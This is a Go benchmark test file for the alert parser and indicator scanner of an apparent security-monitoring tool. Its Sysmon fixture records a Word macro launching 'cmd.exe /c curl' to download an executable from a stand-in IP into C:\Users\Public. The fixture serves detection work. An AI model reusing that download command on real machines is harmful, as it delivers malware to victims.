package parse

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/aluskort/aluskort/internal/alert"
	"github.com/aluskort/aluskort/internal/ingest"
)

// logText is words as logs have them, with an indicator every few hundred bytes.
func logText(size int) string {
	const line = "Jun 12 10:01:43 host01 sshd[4211]: Accepted publickey for deploy from 198.51.100.23 port 50122 ssh2: session " +
		"opened by (uid=0) process name svchost.exe version 10.0.26100.4202 provider Microsoft-Windows-Sysmon level " +
		"information message the operation completed successfully and nothing else of interest was recorded for it " +
		"in System.Management.Automation with guid {5770385f-c22a-43e0-bf4c-06f5698ffbd9} at C:\\Windows\\System32\\a.exe " +
		"request to https://cdn.example.com/assets/app.js?v=3 answered 200 in 12 ms, hash " + sha256Hex + " seen\n"
	return strings.Repeat(line, size/len(line)+1)[:size]
}

func BenchmarkScan32K(b *testing.B) {
	text := logText(32 << 10)
	s := NewScanner()
	found := 0
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		s.Scan(text, func(Match) { found++ })
	}
	ours := b.Elapsed() / time.Duration(b.N)
	b.StopTimer()
	if found == 0 {
		b.Fatal("nothing found")
	}
	start := time.Now()
	const rounds = 3
	for range rounds {
		for _, re := range eight {
			re.FindAllStringIndex(text, -1)
		}
	}
	b.ReportMetric(float64(time.Since(start)/rounds)/float64(ours), "x-regexp")
}

var eight = []*regexp.Regexp{
	regexp.MustCompile(`\b(?:\d{1,3}\.){3}\d{1,3}\b`),
	regexp.MustCompile(`\b[a-fA-F0-9]{32}\b`),
	regexp.MustCompile(`\b[a-fA-F0-9]{40}\b`),
	regexp.MustCompile(`\b[a-fA-F0-9]{64}\b`),
	regexp.MustCompile(`\b(?:[a-zA-Z0-9-]+\.)+(?:com|net|org|io|ru|cn|xyz|gov|edu|mil|co|uk|de|fr|us|ca|au)\b`),
	regexp.MustCompile(`https?://[^\s"'<>]+`),
	regexp.MustCompile(`(?i)\bCVE-\d{4}-\d{4,}\b`),
	regexp.MustCompile(`\b[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}\b`),
}

func BenchmarkScanPlain32K(b *testing.B) {
	text := strings.Repeat("the quick brown fox jumps over the lazy dog and nothing of interest happened here today ", 400)[:32<<10]
	s := NewScanner()
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		s.Scan(text, func(Match) {})
	}
}

// sysmonRecord is an alert of about 2 KB in the form in which Wazuh indexes Sysmon events.
const sysmonRecord = `{"timestamp":"2025-06-12T10:01:44.883+0000","agent":{"id":"007","name":"WS-0141","ip":"10.20.30.41"},
"manager":{"name":"mgr01"},"id":"1749722504.118","decoder":{"name":"windows_eventchannel"},"location":"EventChannel",
"rule":{"id":"92052","level":12,"description":"Windows command prompt started by an abnormal process","groups":["sysmon","windows"],
"mitre":{"id":["T1059.003"],"tactic":["Execution"],"technique":["Windows Command Shell"]}},
"data":{"win":{"system":{"providerName":"Microsoft-Windows-Sysmon","eventID":"1","computer":"WS-0141.corp.example.com",
"systemTime":"2025-06-12T10:01:43.8849563Z","channel":"Microsoft-Windows-Sysmon/Operational","processID":"3744",
"message":"\"Process Create:\r\nUtcTime: 2025-06-12 10:01:43.883\r\nProcessGuid: {ff3427f9-a687-6867-1b07-000000001200}\r\nImage: C:\\Windows\\System32\\cmd.exe\r\nFileVersion: 10.0.26100.4202\r\nCommandLine: cmd.exe /c curl -o C:\\Users\\Public\\u.exe http://203.0.113.77/u.exe\r\nUser: CORP\\dana.roth\r\nHashes: SHA1=0123456789ABCDEF0123456789ABCDEF01234567,MD5=0123456789ABCDEF0123456789ABCDEF\r\nParentImage: C:\\Program Files\\Office\\winword.exe\""},
"eventdata":{"utcTime":"2025-06-12 10:01:43.883","processGuid":"{ff3427f9-a687-6867-1b07-000000001200}","processId":"5228",
"image":"C:\\\\Windows\\\\System32\\\\cmd.exe","fileVersion":"10.0.26100.4202","company":"Microsoft Corporation",
"commandLine":"cmd.exe /c curl -o C:\\\\Users\\\\Public\\\\u.exe http://203.0.113.77/u.exe","user":"CORP\\\\dana.roth",
"logonId":"0x3e7a1","integrityLevel":"High","currentDirectory":"C:\\\\Users\\\\dana.roth\\\\",
"hashes":"SHA1=0123456789ABCDEF0123456789ABCDEF01234567,MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF,IMPHASH=00000000000000000000000000000000",
"parentImage":"C:\\\\Program Files\\\\Office\\\\winword.exe","parentProcessId":"4100","parentCommandLine":"winword.exe invoice.docm"}}}}`

var sysmonDescriptor = &ingest.Descriptor{
	Name: "wazuh",
	Entities: []ingest.EntityPath{
		{Path: "agent.name", Type: alert.Host, Role: alert.RoleDevice, Principal: true},
		{Path: "agent.ip", Type: alert.IP, Role: alert.RoleDevice},
		{Path: "data.win.eventdata.user", Type: alert.Account, Role: alert.RoleSubject, Principal: true},
		{Path: "data.win.eventdata.image", Type: alert.Process},
		{Path: "data.win.eventdata.parentImage", Type: alert.Process, Role: alert.RoleParent},
		{Path: "data.win.eventdata.hashes", Type: alert.FileHash},
		{Path: "data.win.eventdata.targetFilename", Type: alert.File},
		{Path: "data.srcip", Type: alert.IP, Role: alert.RoleSource, Principal: true},
	},
	Text: []string{"data.*", "full_log"},
	Skip: []string{"data.win.system.providerName"},
}

func sysmonAlert(tb testing.TB) *alert.Alert {
	tb.Helper()
	var f alert.Flattener
	fields, err := f.Flatten([]byte(sysmonRecord))
	if err != nil {
		tb.Fatal(err)
	}
	return &alert.Alert{
		ID: "1749722504.118", Source: "wazuh", EntitiesRaw: "[]",
		Title: fields.Get("rule.description"), RawPayload: []byte(sysmonRecord), Fields: fields,
	}
}

func describeSysmon(string) *ingest.Descriptor { return sysmonDescriptor }

func BenchmarkParseAlert2K(b *testing.B) {
	a := sysmonAlert(b)
	p := New(describeSysmon)
	b.SetBytes(int64(len(sysmonRecord)))
	b.ReportAllocs()
	for b.Loop() {
		p.Parse(a)
	}
}

func BenchmarkParseGraph(b *testing.B) {
	a := &alert.Alert{Source: "sentinel", EntitiesRaw: graphText}
	p := New(nil)
	b.SetBytes(int64(len(graphText)))
	b.ReportAllocs()
	for b.Loop() {
		p.Parse(a)
	}
}
